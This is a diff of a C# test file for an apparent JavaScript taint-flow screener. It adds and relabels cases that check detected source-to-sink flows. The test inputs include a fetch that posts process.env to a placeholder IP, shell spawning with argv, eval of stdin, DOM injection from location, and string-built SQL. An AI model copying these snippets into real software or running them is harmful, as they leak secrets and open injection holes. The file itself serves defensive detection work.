@@ -54,10 +54,11 @@ public sealed class FlowTests(ParserContainer parser)
     [InlineData("fetch('http://192.0.2.1/', { method: 'POST', body: JSON.stringify(process.env) })", "environment process.env > network fetch body")]
     [InlineData("require('child_process').spawn('ls ' + process.argv[2], { shell: true })", "arguments process.argv > shell child_process.spawn 0")]
     [InlineData("process.stdin.on('data', d => eval(d.toString()))", "stdin process.stdin > code eval 0")]
-    [InlineData("document.body.innerHTML = location.hash", "request location > html document.body.innerHTML value")]
-    [InlineData("document.write(decodeURIComponent(document.location.search))", "request document.location > html document.write 0")]
+    [InlineData("document.body.innerHTML = location.hash", "page location.hash > html document.body.innerHTML value")]
+    [InlineData("document.write(decodeURIComponent(document.location.search))", "page document.location.search > html document.write 0")]
     [InlineData("function show({ name }) { document.body.innerHTML = name }", "parameter { name } > html document.body.innerHTML value")]
-    [InlineData("app.get('/', ({ query: { id } }, res) => db.query(`SELECT * FROM t WHERE i = ${id}`))", "request query > sql .query 0")]
+    [InlineData("async function run({ query, params }) { return pool.query(query, params); }", "parameter { query, params } > sql .query 0")]
+    [InlineData("app.get('/', ({ query: { id } }, res) => db.query(`SELECT * FROM t WHERE i = ${id}`))", "request { query: { id } } > sql .query 0")]
     public async Task JavaScript_is_followed(string code, string flow) =>
         Assert.Contains(flow, Flows(await Screening.Screener(parser).JavaScriptAsync(code)));
 
@@ -66,6 +67,8 @@ public sealed class FlowTests(ParserContainer parser)
     [InlineData("app.get('/', (req, res) => { let location; location = req.query.city; res.json({ location }) })")]
     [InlineData("app.get('/', (req, res) => { const document = { body: {} }; document.title = req.query.t; res.json(document) })")]
     [InlineData("console.log(location.hash); document.title = location.search; el.textContent = location.href")]
+    [InlineData("fetch(location.origin + '/api'); fetch(location.pathname + '.json'); setTimeout(location.reload.bind(location), 9)")]
+    [InlineData("location.href = location.origin + '/login'; window.location = window.location.pathname")]
     [InlineData("const { location } = require('./places'); console.log(location)")]
     public async Task JavaScript_that_is_harmless_has_no_flow(string code) =>
         Assert.Empty(Flows(await Screening.Screener(parser).JavaScriptAsync(code)));
